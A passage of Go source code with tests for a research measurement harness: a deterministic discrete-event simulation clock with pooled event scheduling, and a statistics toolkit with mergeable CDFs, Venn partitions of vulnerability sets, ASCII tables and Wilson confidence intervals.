// list is empty), stamps it with t, and returns it. Recycling nodes
// keeps steady-state scheduling allocation-free; the (time, insertion
// order) discipline is untouched, so event interleaving — and
// therefore every golden artifact — is byte-identical to the
// always-allocate version.
func (c *Clock) alloc(t time.Duration) *event {
	if t < c.now {
		panic(fmt.Sprintf("sim: scheduling event at %v before now %v", t, c.now))
	}
	var e *event
	if n := len(c.pool.free); n > 0 {
		e = c.pool.free[n-1]
		c.pool.free[n-1] = nil
		c.pool.free = c.pool.free[:n-1]
	} else {
		e = &event{}
	}
	e.at = t
	return e
}

// schedule appends e to the bucket for its timestamp, creating (and
// heap-inserting) the bucket on first use of that time. Appending is
// what preserves the global (time, sequence) contract: insertion order
// within one timestamp IS sequence order.
func (c *Clock) schedule(e *event) {
	b := c.byTime[e.at]
	if b == nil {
		b = c.pool.getBucket(e.at)
		c.byTime[e.at] = b
		heap.Push(&c.queue, b)
	}
	b.evs = append(b.evs, e)
	c.pending++
}

// At schedules fn to run at absolute virtual time t. Scheduling in the
// past panics: that is always a logic error in a discrete-event model.
func (c *Clock) At(t time.Duration, fn func()) {
	e := c.alloc(t)
	e.fn = fn
	c.schedule(e)
}

// After schedules fn to run d after the current virtual time.
func (c *Clock) After(d time.Duration, fn func()) {
	if d < 0 {
		d = 0
	}
	c.At(c.now+d, fn)
}

// AtAction schedules act.Fire to run at absolute virtual time t
// without allocating a closure; see Action.
func (c *Clock) AtAction(t time.Duration, act Action) {
	e := c.alloc(t)
	e.act = act
	c.schedule(e)
}

// AfterAction schedules act.Fire to run d after the current virtual
// time without allocating a closure.
func (c *Clock) AfterAction(d time.Duration, act Action) {
	if d < 0 {
		d = 0
	}
	c.AtAction(c.now+d, act)
}

// Pending reports the number of queued events.
func (c *Clock) Pending() int { return c.pending }

// Step runs the single earliest event, advancing the clock to its
// timestamp. It reports whether an event was run.
func (c *Clock) Step() bool {
	if len(c.queue) == 0 {
		return false
	}
	b := c.queue[0]
	e := b.evs[b.head]
	b.evs[b.head] = nil
	b.head++
	if b.head == len(b.evs) {
		// Drained. An event fired later at this same timestamp gets a
		// fresh bucket; since the old one is already past, time-unique
		// bucket keys stay intact by removing the map entry first.
		heap.Pop(&c.queue)
		delete(c.byTime, b.at)
		c.pool.putBucket(b)
	}
	c.pending--
	c.now = e.at
	fn, act := e.fn, e.act
	e.fn, e.act = nil, nil
	c.pool.free = append(c.pool.free, e)
	if act != nil {
		act.Fire()
	} else {
		fn()
	}
	return true
}

// Run processes events until the queue is empty (or the event limit is
// reached). It returns the number of events processed.
func (c *Clock) Run() int {
	n := 0
	for c.Step() {
		n++
		if c.limit > 0 && n >= c.limit {
			break
		}
	}
	return n
}

// RunUntil processes events with timestamps <= deadline, then advances
// the clock to deadline. It returns the number of events processed.
// If the event limit stops processing early, the clock stays at the
// last processed event instead of jumping to the deadline, so the
// still-queued events are not stranded in the clock's past.
func (c *Clock) RunUntil(deadline time.Duration) int {
	n := 0
	for len(c.queue) > 0 && c.queue[0].at <= deadline {
		if c.limit > 0 && n >= c.limit {
			return n
		}
		if !c.Step() {
			break
		}
		n++
	}
	if c.now < deadline {
		c.now = deadline
	}
	return n
}

// RunFor processes events for d of virtual time from now.
func (c *Clock) RunFor(d time.Duration) int { return c.RunUntil(c.now + d) }
