package sim

import (
	"testing"
	"time"
)

func TestClockOrdering(t *testing.T) {
	c := NewClock(1)
	var order []int
	c.At(30*time.Millisecond, func() { order = append(order, 3) })
	c.At(10*time.Millisecond, func() { order = append(order, 1) })
	c.At(20*time.Millisecond, func() { order = append(order, 2) })
	if n := c.Run(); n != 3 {
		t.Fatalf("Run processed %d events, want 3", n)
	}
	if len(order) != 3 || order[0] != 1 || order[1] != 2 || order[2] != 3 {
		t.Fatalf("events ran out of order: %v", order)
	}
	if c.Now() != 30*time.Millisecond {
		t.Fatalf("clock at %v, want 30ms", c.Now())
	}
}

func TestClockFIFOAtSameTime(t *testing.T) {
	c := NewClock(1)
	var order []int
	for i := 0; i < 10; i++ {
		i := i
		c.At(time.Second, func() { order = append(order, i) })
	}
	c.Run()
	for i, v := range order {
		if v != i {
			t.Fatalf("same-timestamp events not FIFO: %v", order)
		}
	}
}

func TestClockAfterAndNesting(t *testing.T) {
	c := NewClock(1)
	var hit []time.Duration
	c.After(time.Second, func() {
		hit = append(hit, c.Now())
		c.After(2*time.Second, func() { hit = append(hit, c.Now()) })
	})
	c.Run()
	if len(hit) != 2 || hit[0] != time.Second || hit[1] != 3*time.Second {
		t.Fatalf("nested scheduling produced %v", hit)
	}
}

func TestRunUntilAdvancesClock(t *testing.T) {
	c := NewClock(1)
	ran := false
	c.At(5*time.Second, func() { ran = true })
	c.RunUntil(2 * time.Second)
	if ran {
		t.Fatal("event at 5s ran during RunUntil(2s)")
	}
	if c.Now() != 2*time.Second {
		t.Fatalf("clock at %v, want 2s", c.Now())
	}
	c.RunUntil(10 * time.Second)
	if !ran {
		t.Fatal("event at 5s did not run by 10s")
	}
	if c.Pending() != 0 {
		t.Fatalf("pending %d, want 0", c.Pending())
	}
}

func TestRunForRelative(t *testing.T) {
	c := NewClock(1)
	c.RunFor(time.Minute)
	c.RunFor(time.Minute)
	if c.Now() != 2*time.Minute {
		t.Fatalf("clock at %v, want 2m", c.Now())
	}
}

func TestSchedulingInPastPanics(t *testing.T) {
	c := NewClock(1)
	c.At(time.Second, func() {})
	c.Run()
	defer func() {
		if recover() == nil {
			t.Fatal("scheduling in the past did not panic")
		}
	}()
	c.At(time.Millisecond, func() {})
}

func TestEventLimit(t *testing.T) {
	c := NewClock(1)
	c.SetEventLimit(100)
	var bomb func()
	n := 0
	bomb = func() { n++; c.After(time.Millisecond, bomb) }
	c.After(0, bomb)
	c.Run()
	if n != 100 {
		t.Fatalf("event limit let %d events run, want 100", n)
	}
}

func TestRunUntilRespectsEventLimit(t *testing.T) {
	c := NewClock(1)
	c.SetEventLimit(3)
	for i := 1; i <= 5; i++ {
		c.At(time.Duration(i)*time.Millisecond, func() {})
	}
	if n := c.RunUntil(10 * time.Millisecond); n != 3 {
		t.Fatalf("RunUntil processed %d events, want 3", n)
	}
	if c.Pending() != 2 {
		t.Fatalf("pending %d, want 2", c.Pending())
	}
	// The clock must NOT have jumped to the deadline: the 4ms and 5ms
	// events are still queued and scheduling relative to a clock past
	// them would strand them in the past.
	if c.Now() != 3*time.Millisecond {
		t.Fatalf("clock at %v, want 3ms", c.Now())
	}
	// Lifting the limit lets the remaining events drain and the clock
	// reach the deadline.
	c.SetEventLimit(0)
	if n := c.RunUntil(10 * time.Millisecond); n != 2 {
		t.Fatalf("drain processed %d events, want 2", n)
	}
	if c.Now() != 10*time.Millisecond || c.Pending() != 0 {
		t.Fatalf("clock at %v with %d pending, want 10ms/0", c.Now(), c.Pending())
	}
}

func TestRunUntilLimitCountsPerCall(t *testing.T) {
	// The limit bounds each Run/RunUntil call separately, so repeated
	// RunFor windows (the scanners' idiom) each get a fresh budget.
	c := NewClock(1)
	c.SetEventLimit(2)
	for i := 1; i <= 4; i++ {
		c.At(time.Duration(i)*time.Millisecond, func() {})
	}
	if n := c.RunUntil(2 * time.Millisecond); n != 2 {
		t.Fatalf("first window ran %d, want 2", n)
	}
	if n := c.RunUntil(4 * time.Millisecond); n != 2 {
		t.Fatalf("second window ran %d, want 2", n)
	}
	if c.Now() != 4*time.Millisecond {
		t.Fatalf("clock at %v, want 4ms", c.Now())
	}
}

func TestDeterministicRandStreams(t *testing.T) {
	a := NewClock(42)
	b := NewClock(42)
	ra, rb := a.NewRand(), b.NewRand()
	for i := 0; i < 100; i++ {
		if ra.Uint64() != rb.Uint64() {
			t.Fatal("same-seed clocks produced different rand streams")
		}
	}
	// A second derived stream must differ from the first.
	ra2 := a.NewRand()
	same := 0
	for i := 0; i < 32; i++ {
		if ra2.Uint64() == rb.Uint64() {
			same++
		}
	}
	if same == 32 {
		t.Fatal("derived streams are identical")
	}
}

// TestEventPoolTrim pins the retention bound: a pool warmed by a big
// burst can be trimmed back between jobs, keeping the largest-capacity
// buckets, and a trimmed pool still serves the next simulation
// correctly.
func TestEventPoolTrim(t *testing.T) {
	p := &EventPool{}
	for i := 0; i < 100; i++ {
		p.free = append(p.free, &event{})
	}
	small := &bucket{evs: make([]*event, 0, 2)}
	big := &bucket{evs: make([]*event, 0, 1024)}
	p.putBucket(small)
	p.putBucket(big)
	if got := p.Retained(); got != 102 {
		t.Fatalf("Retained %d, want 102", got)
	}
	p.Trim(1)
	if got := p.Retained(); got != 2 {
		t.Fatalf("post-Trim Retained %d, want 2 (1 event + 1 bucket)", got)
	}
	if len(p.freeBuckets) != 1 || cap(p.freeBuckets[0].evs) != 1024 {
		t.Fatal("Trim did not keep the largest-capacity bucket")
	}
	p.Trim(0)
	if p.Retained() != 0 {
		t.Fatalf("Trim(0) retained %d nodes", p.Retained())
	}
	// A trimmed (empty) pool still runs a clock normally.
	c := NewClock(1)
	c.SetEventPool(p)
	fired := 0
	for i := 0; i < 10; i++ {
		c.After(time.Duration(i)*time.Millisecond, func() { fired++ })
	}
	c.Run()
	if fired != 10 {
		t.Fatalf("fired %d/10 events after Trim", fired)
	}
}
