// Package stats provides the small statistical and rendering toolkit
// the measurement harness uses: empirical CDFs, quantiles, Venn
// partitions of vulnerability sets, and ASCII tables/plots matching
// the paper's figures.
//
// Every accumulator in the package is mergeable: Counter, CDF and
// Venn3 values computed independently per population shard combine
// into the whole-population value (Counter.Plus, MergeCDFs and
// Venn3.Merge respectively), and merging is order-independent. This
// is what lets the experiment engine fan a scan out over parallel
// shards and still render identical tables.
package stats

import (
	"encoding/json"
	"fmt"
	"math"
	"sort"
	"strings"
)

// CDF is an empirical cumulative distribution over float64 samples.
type CDF struct {
	sorted []float64
}

// NewCDF builds a CDF from samples (copied, then sorted).
func NewCDF(samples []float64) *CDF {
	s := append([]float64(nil), samples...)
	sort.Float64s(s)
	return &CDF{sorted: s}
}

// Len returns the sample count.
func (c *CDF) Len() int { return len(c.sorted) }

// MarshalJSON encodes the CDF as its sorted sample array. Go's float64
// JSON encoding round-trips exactly, so marshal→unmarshal reproduces
// the CDF bit for bit — the property the campaign checkpoint relies on
// to make resumed sweeps byte-identical to uninterrupted ones.
func (c *CDF) MarshalJSON() ([]byte, error) {
	if c.sorted == nil {
		return json.Marshal([]float64{})
	}
	return json.Marshal(c.sorted)
}

// UnmarshalJSON decodes a sample array. Samples are re-sorted
// defensively, so a hand-edited snapshot cannot break the sorted
// invariant Quantile and At depend on.
func (c *CDF) UnmarshalJSON(data []byte) error {
	var s []float64
	if err := json.Unmarshal(data, &s); err != nil {
		return err
	}
	sort.Float64s(s)
	c.sorted = s
	return nil
}

// MergeCDFs folds per-shard CDFs into the whole-population CDF in one
// concat-and-sort pass (a pairwise merge fold would re-copy the
// accumulated samples per shard — quadratic at full-population shard
// counts). Operands are not modified; nil operands are treated as
// empty.
func MergeCDFs(cs ...*CDF) *CDF {
	total := 0
	for _, c := range cs {
		if c != nil {
			total += len(c.sorted)
		}
	}
	all := make([]float64, 0, total)
	for _, c := range cs {
		if c != nil {
			all = append(all, c.sorted...)
		}
	}
	sort.Float64s(all)
	return &CDF{sorted: all}
}

// At returns P(X <= x).
func (c *CDF) At(x float64) float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	i := sort.SearchFloat64s(c.sorted, x)
	for i < len(c.sorted) && c.sorted[i] <= x {
		i++
	}
	return float64(i) / float64(len(c.sorted))
}

// Quantile returns the q-th (0..1) quantile.
func (c *CDF) Quantile(q float64) float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	if q <= 0 {
		return c.sorted[0]
	}
	if q >= 1 {
		return c.sorted[len(c.sorted)-1]
	}
	i := int(q * float64(len(c.sorted)))
	if i >= len(c.sorted) {
		i = len(c.sorted) - 1
	}
	return c.sorted[i]
}

// Mean returns the sample mean.
func (c *CDF) Mean() float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	var s float64
	for _, v := range c.sorted {
		s += v
	}
	return s / float64(len(c.sorted))
}

// Median returns the 0.5 quantile.
func (c *CDF) Median() float64 { return c.Quantile(0.5) }

// RenderASCII draws the CDF at the given x breakpoints, like the
// paper's Figure 3/4 step plots.
func (c *CDF) RenderASCII(label string, xs []float64, format string) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%s (n=%d)\n", label, c.Len())
	for _, x := range xs {
		p := c.At(x)
		bar := strings.Repeat("#", int(p*40+0.5))
		fmt.Fprintf(&sb, "  "+format+" |%-40s| %5.1f%%\n", x, bar, p*100)
	}
	return sb.String()
}

// Venn3 is the three-set partition of Figure 5.
type Venn3 struct {
	Labels [3]string
	// Region counts: OnlyA, OnlyB, OnlyC, AB, AC, BC, ABC.
	OnlyA, OnlyB, OnlyC, AB, AC, BC, ABC int
}

// NewVenn3 partitions membership bit-vectors (bit0=A, bit1=B, bit2=C).
func NewVenn3(labels [3]string, membership []uint8) Venn3 {
	v := Venn3{Labels: labels}
	for _, m := range membership {
		switch m & 7 {
		case 1:
			v.OnlyA++
		case 2:
			v.OnlyB++
		case 3:
			v.AB++
		case 4:
			v.OnlyC++
		case 5:
			v.AC++
		case 6:
			v.BC++
		case 7:
			v.ABC++
		}
	}
	return v
}

// Merge returns the partition of the union of both (disjoint)
// populations: region counts add field-wise. Empty labels take the
// other operand's labels, so a zero Venn3 is a valid merge identity.
func (v Venn3) Merge(o Venn3) Venn3 {
	out := v
	if out.Labels == ([3]string{}) {
		out.Labels = o.Labels
	}
	out.OnlyA += o.OnlyA
	out.OnlyB += o.OnlyB
	out.OnlyC += o.OnlyC
	out.AB += o.AB
	out.AC += o.AC
	out.BC += o.BC
	out.ABC += o.ABC
	return out
}

// Total returns the number of elements in the union.
func (v Venn3) Total() int {
	return v.OnlyA + v.OnlyB + v.OnlyC + v.AB + v.AC + v.BC + v.ABC
}

// InA returns |A|.
func (v Venn3) InA() int { return v.OnlyA + v.AB + v.AC + v.ABC }

// InB returns |B|.
func (v Venn3) InB() int { return v.OnlyB + v.AB + v.BC + v.ABC }

// InC returns |C|.
func (v Venn3) InC() int { return v.OnlyC + v.AC + v.BC + v.ABC }

// String renders the region counts.
func (v Venn3) String() string {
	return fmt.Sprintf(
		"%s only: %d\n%s only: %d\n%s only: %d\n%s∩%s: %d\n%s∩%s: %d\n%s∩%s: %d\nall three: %d\nunion: %d",
		v.Labels[0], v.OnlyA, v.Labels[1], v.OnlyB, v.Labels[2], v.OnlyC,
		v.Labels[0], v.Labels[1], v.AB,
		v.Labels[0], v.Labels[2], v.AC,
		v.Labels[1], v.Labels[2], v.BC,
		v.ABC, v.Total())
}

// Table renders rows of cells with aligned columns, pipe-separated —
// the output format of every regenerated paper table.
type Table struct {
	Title  string
	Header []string
	Rows   [][]string
}

// Add appends a row.
func (t *Table) Add(cells ...string) { t.Rows = append(t.Rows, cells) }

// String renders the table.
func (t *Table) String() string {
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var sb strings.Builder
	if t.Title != "" {
		fmt.Fprintf(&sb, "== %s ==\n", t.Title)
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				sb.WriteString(" | ")
			}
			fmt.Fprintf(&sb, "%-*s", widths[i], c)
		}
		sb.WriteByte('\n')
	}
	line(t.Header)
	for i, w := range widths {
		if i > 0 {
			sb.WriteString("-+-")
		}
		sb.WriteString(strings.Repeat("-", w))
	}
	sb.WriteByte('\n')
	for _, row := range t.Rows {
		line(row)
	}
	return sb.String()
}

// Counter is a mergeable hits-over-population accumulator: the value
// behind every percentage cell of the regenerated tables. Shard scans
// Observe each population item once; per-shard counters then Plus
// together into the dataset total.
// The JSON field names are part of the report package's encoding
// contract: a ratio cell round-trips as {"hits":h,"total":t}.
type Counter struct {
	Hits  int `json:"hits"`
	Total int `json:"total"`
}

// Observe records one scanned item.
func (c *Counter) Observe(hit bool) {
	c.Total++
	if hit {
		c.Hits++
	}
}

// Plus returns the merged counter of two disjoint population slices.
func (c Counter) Plus(o Counter) Counter {
	return Counter{Hits: c.Hits + o.Hits, Total: c.Total + o.Total}
}

// Frac returns the hit fraction (0 when nothing was scanned).
func (c Counter) Frac() float64 {
	if c.Total == 0 {
		return 0
	}
	return float64(c.Hits) / float64(c.Total)
}

// Cell renders the counter as a table percentage cell.
func (c Counter) Cell() string { return Pct(c.Hits, c.Total) }

// WilsonZ95 is the normal quantile behind a 95% Wilson interval.
const WilsonZ95 = 1.96

// Wilson returns the Wilson score confidence interval [lo, hi] for the
// counter's hit fraction at normal quantile z (1.96 for 95%). Unlike
// the normal approximation it stays inside [0,1] and is meaningful at
// the small per-cell sample sizes campaign trials produce, including
// the 0/n and n/n edges. An empty counter returns (0, 0). The interval
// depends only on (Hits, Total), so merging shard counters with Plus
// and then taking the interval equals the interval of the merged
// population — the same mergeability contract as every accumulator
// here.
func (c Counter) Wilson(z float64) (lo, hi float64) {
	if c.Total == 0 {
		return 0, 0
	}
	n := float64(c.Total)
	p := float64(c.Hits) / n
	z2 := z * z
	denom := 1 + z2/n
	center := (p + z2/(2*n)) / denom
	half := z / denom * math.Sqrt(p*(1-p)/n+z2/(4*n*n))
	lo, hi = center-half, center+half
	if lo < 0 {
		lo = 0
	}
	if hi > 1 {
		hi = 1
	}
	return lo, hi
}

// CellCI renders the counter as a "pct±ci" table cell: the hit
// percentage with the larger half-width of its 95% Wilson interval
// ("67%±46"), or "n/a" for an empty counter. The half-width is
// anchored on the raw fraction (not the Wilson center) so the leading
// percentage matches Cell exactly.
func (c Counter) CellCI() string {
	if c.Total == 0 {
		return "n/a"
	}
	p := c.Frac()
	lo, hi := c.Wilson(WilsonZ95)
	half := math.Max(hi-p, p-lo)
	return fmt.Sprintf("%.0f%%±%.0f", 100*p, 100*half)
}

// Pct formats a fraction as a percentage cell.
func Pct(num, den int) string {
	if den == 0 {
		return "n/a"
	}
	return fmt.Sprintf("%.0f%%", 100*float64(num)/float64(den))
}

// Pct1 formats with one decimal.
func Pct1(f float64) string { return fmt.Sprintf("%.1f%%", 100*f) }
