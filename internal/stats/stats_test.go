package stats

import (
	"encoding/json"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func TestCDFBasics(t *testing.T) {
	c := NewCDF([]float64{1, 2, 3, 4})
	if got := c.At(0); got != 0 {
		t.Fatalf("At(0)=%f", got)
	}
	if got := c.At(2); got != 0.5 {
		t.Fatalf("At(2)=%f", got)
	}
	if got := c.At(10); got != 1 {
		t.Fatalf("At(10)=%f", got)
	}
	if c.Median() != 3 { // upper median for even n with index floor(q*n)
		t.Fatalf("Median=%f", c.Median())
	}
	if c.Mean() != 2.5 {
		t.Fatalf("Mean=%f", c.Mean())
	}
	if c.Quantile(0) != 1 || c.Quantile(1) != 4 {
		t.Fatalf("extreme quantiles: %f %f", c.Quantile(0), c.Quantile(1))
	}
}

func TestCDFMonotoneProperty(t *testing.T) {
	f := func(raw []float64) bool {
		c := NewCDF(raw)
		prev := -1.0
		for _, x := range []float64{-100, -1, 0, 0.5, 1, 10, 1e6} {
			p := c.At(x)
			if p < prev || p < 0 || p > 1 {
				return false
			}
			prev = p
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300, Rand: rand.New(rand.NewSource(4))}); err != nil {
		t.Fatal(err)
	}
}

func TestVenn3Partition(t *testing.T) {
	membership := []uint8{1, 1, 2, 4, 3, 5, 6, 7, 7, 0}
	v := NewVenn3([3]string{"H", "S", "F"}, membership)
	if v.OnlyA != 2 || v.OnlyB != 1 || v.OnlyC != 1 || v.AB != 1 || v.AC != 1 || v.BC != 1 || v.ABC != 2 {
		t.Fatalf("partition wrong: %+v", v)
	}
	if v.Total() != 9 { // the 0 element is in no set
		t.Fatalf("Total=%d", v.Total())
	}
	if v.InA() != 6 || v.InB() != 5 || v.InC() != 5 {
		t.Fatalf("set sizes: %d %d %d", v.InA(), v.InB(), v.InC())
	}
}

func TestCDFMerge(t *testing.T) {
	whole := NewCDF([]float64{5, 1, 4, 2, 3, 9, 7})
	a := NewCDF([]float64{5, 1, 4})
	b := NewCDF([]float64{2, 3})
	c := NewCDF([]float64{9, 7})
	merged := MergeCDFs(a, b, c)
	if merged.Len() != whole.Len() {
		t.Fatalf("merged %d samples, want %d", merged.Len(), whole.Len())
	}
	for _, x := range []float64{0, 1, 2.5, 4, 8, 10} {
		if merged.At(x) != whole.At(x) {
			t.Fatalf("At(%v): merged %v, whole %v", x, merged.At(x), whole.At(x))
		}
	}
	// MergeCDFs must not mutate its operands.
	if a.Len() != 3 || b.Len() != 2 {
		t.Fatal("MergeCDFs mutated an operand")
	}
	if MergeCDFs(nil, a).Len() != 3 {
		t.Fatal("nil operand not treated as empty")
	}
}

func TestVenn3Merge(t *testing.T) {
	labels := [3]string{"H", "S", "F"}
	membership := []uint8{1, 1, 2, 4, 3, 5, 6, 7, 7, 0}
	whole := NewVenn3(labels, membership)
	merged := Venn3{}
	for _, part := range [][]uint8{membership[:3], membership[3:7], membership[7:]} {
		merged = merged.Merge(NewVenn3(labels, part))
	}
	if merged != whole {
		t.Fatalf("merged %+v, whole %+v", merged, whole)
	}
	if merged.Labels != labels {
		t.Fatalf("labels lost: %v", merged.Labels)
	}
}

func TestCounter(t *testing.T) {
	var a, b Counter
	a.Observe(true)
	a.Observe(false)
	b.Observe(true)
	b.Observe(true)
	sum := a.Plus(b)
	if sum.Hits != 3 || sum.Total != 4 {
		t.Fatalf("sum %+v", sum)
	}
	if sum.Frac() != 0.75 || sum.Cell() != "75%" {
		t.Fatalf("frac %v cell %s", sum.Frac(), sum.Cell())
	}
	if (Counter{}).Frac() != 0 || (Counter{}).Cell() != "n/a" {
		t.Fatal("zero counter")
	}
}

func TestTableRendering(t *testing.T) {
	tb := &Table{Title: "T", Header: []string{"a", "bb"}}
	tb.Add("xxx", "y")
	out := tb.String()
	if !strings.Contains(out, "== T ==") || !strings.Contains(out, "xxx | y") {
		t.Fatalf("table output:\n%s", out)
	}
}

func TestPct(t *testing.T) {
	if Pct(1, 4) != "25%" || Pct(0, 0) != "n/a" {
		t.Fatalf("Pct wrong: %s %s", Pct(1, 4), Pct(0, 0))
	}
	if Pct1(0.123) != "12.3%" {
		t.Fatal(Pct1(0.123))
	}
}

func TestRenderASCII(t *testing.T) {
	c := NewCDF([]float64{512, 512, 4096})
	out := c.RenderASCII("EDNS", []float64{512, 4096}, "%6.0f")
	if !strings.Contains(out, "66.7%") || !strings.Contains(out, "100.0%") {
		t.Fatalf("render:\n%s", out)
	}
}

// TestCDFJSONRoundTrip: marshal→unmarshal must reproduce the CDF
// exactly (Go float64 JSON encoding is lossless), including the
// empty and nil-sample cases — what campaign checkpoints rely on.
func TestCDFJSONRoundTrip(t *testing.T) {
	for _, samples := range [][]float64{
		nil,
		{},
		{3, 1, 2, 2.5},
		{0.1, 1e-300, 1e300, -7.25, 0.30000000000000004},
	} {
		c := NewCDF(samples)
		b, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		var back CDF
		if err := json.Unmarshal(b, &back); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(back.sorted, c.sorted) && !(len(back.sorted) == 0 && len(c.sorted) == 0) {
			t.Fatalf("round trip changed samples: %v -> %v", c.sorted, back.sorted)
		}
		b2, err := json.Marshal(&back)
		if err != nil {
			t.Fatal(err)
		}
		if string(b2) != string(b) {
			t.Fatalf("re-marshal changed bytes: %s -> %s", b, b2)
		}
	}
}
