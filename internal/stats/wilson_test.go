package stats

import (
	"math"
	"testing"
)

func TestWilsonEdges(t *testing.T) {
	// Empty counter: no interval, "n/a" cell.
	if lo, hi := (Counter{}).Wilson(WilsonZ95); lo != 0 || hi != 0 {
		t.Fatalf("0/0 interval [%v, %v], want [0, 0]", lo, hi)
	}
	if got := (Counter{}).CellCI(); got != "n/a" {
		t.Fatalf("0/0 cell %q, want n/a", got)
	}
	// 0/n: lower bound pinned at 0, upper strictly positive (a run of
	// failures does not prove the rate is zero).
	lo, hi := (Counter{Hits: 0, Total: 5}).Wilson(WilsonZ95)
	if lo != 0 {
		t.Fatalf("0/5 lower bound %v, want 0", lo)
	}
	if hi <= 0 || hi >= 1 {
		t.Fatalf("0/5 upper bound %v, want in (0, 1)", hi)
	}
	// n/n: mirror image.
	lo, hi = (Counter{Hits: 5, Total: 5}).Wilson(WilsonZ95)
	if hi != 1 {
		t.Fatalf("5/5 upper bound %v, want 1", hi)
	}
	if lo <= 0 || lo >= 1 {
		t.Fatalf("5/5 lower bound %v, want in (0, 1)", lo)
	}
	// Symmetry of the two edges.
	lo0, hi0 := (Counter{Hits: 0, Total: 5}).Wilson(WilsonZ95)
	if d := math.Abs((1 - lo) - hi0); d > 1e-12 || math.Abs(hi-1) > 0 || lo0 != 0 {
		t.Fatalf("0/5 and 5/5 intervals are not mirrored: [%v,%v] vs [%v,%v]", lo0, hi0, lo, hi)
	}
	// The interval shrinks with n at a fixed fraction.
	_, hiSmall := (Counter{Hits: 1, Total: 4}).Wilson(WilsonZ95)
	_, hiBig := (Counter{Hits: 100, Total: 400}).Wilson(WilsonZ95)
	if hiBig >= hiSmall {
		t.Fatalf("interval did not shrink with n: hi(1/4)=%v hi(100/400)=%v", hiSmall, hiBig)
	}
}

// TestWilsonAgainstFormula cross-checks the implementation against an
// independent evaluation of the Wilson score formula.
func TestWilsonAgainstFormula(t *testing.T) {
	for _, c := range []Counter{{1, 3}, {2, 3}, {7, 10}, {50, 200}, {1, 1000}} {
		z := WilsonZ95
		n := float64(c.Total)
		p := float64(c.Hits) / n
		center := (p + z*z/(2*n)) / (1 + z*z/n)
		half := z / (1 + z*z/n) * math.Sqrt(p*(1-p)/n+z*z/(4*n*n))
		lo, hi := c.Wilson(z)
		if math.Abs(lo-(center-half)) > 1e-12 || math.Abs(hi-(center+half)) > 1e-12 {
			t.Fatalf("%d/%d: got [%v, %v], want [%v, %v]",
				c.Hits, c.Total, lo, hi, center-half, center+half)
		}
	}
}

// TestWilsonMerge pins merge-then-interval ≡ interval-of-merged: the
// interval is a pure function of the merged counts, so shard-parallel
// accumulation cannot change the reported CI.
func TestWilsonMerge(t *testing.T) {
	a := Counter{Hits: 3, Total: 10}
	b := Counter{Hits: 1, Total: 7}
	merged := Counter{Hits: a.Hits + b.Hits, Total: a.Total + b.Total}
	lo1, hi1 := a.Plus(b).Wilson(WilsonZ95)
	lo2, hi2 := merged.Wilson(WilsonZ95)
	if lo1 != lo2 || hi1 != hi2 {
		t.Fatalf("merge-then-interval [%v, %v] != interval-of-merged [%v, %v]", lo1, hi1, lo2, hi2)
	}
	if c1, c2 := a.Plus(b).CellCI(), merged.CellCI(); c1 != c2 {
		t.Fatalf("merged cells differ: %q vs %q", c1, c2)
	}
}

// TestCellCIGolden pins the pct±ci cell format byte-for-byte — the
// contract the deploy report section and its text goldens render
// under.
func TestCellCIGolden(t *testing.T) {
	cases := []struct {
		c    Counter
		want string
	}{
		{Counter{}, "n/a"},
		{Counter{Hits: 0, Total: 5}, "0%±43"},
		{Counter{Hits: 5, Total: 5}, "100%±43"},
		{Counter{Hits: 2, Total: 3}, "67%±46"},
		{Counter{Hits: 50, Total: 100}, "50%±10"},
		{Counter{Hits: 1, Total: 1000}, "0%±0"},
	}
	for _, tc := range cases {
		if got := tc.c.CellCI(); got != tc.want {
			t.Errorf("%d/%d: CellCI %q, want %q", tc.c.Hits, tc.c.Total, got, tc.want)
		}
	}
}
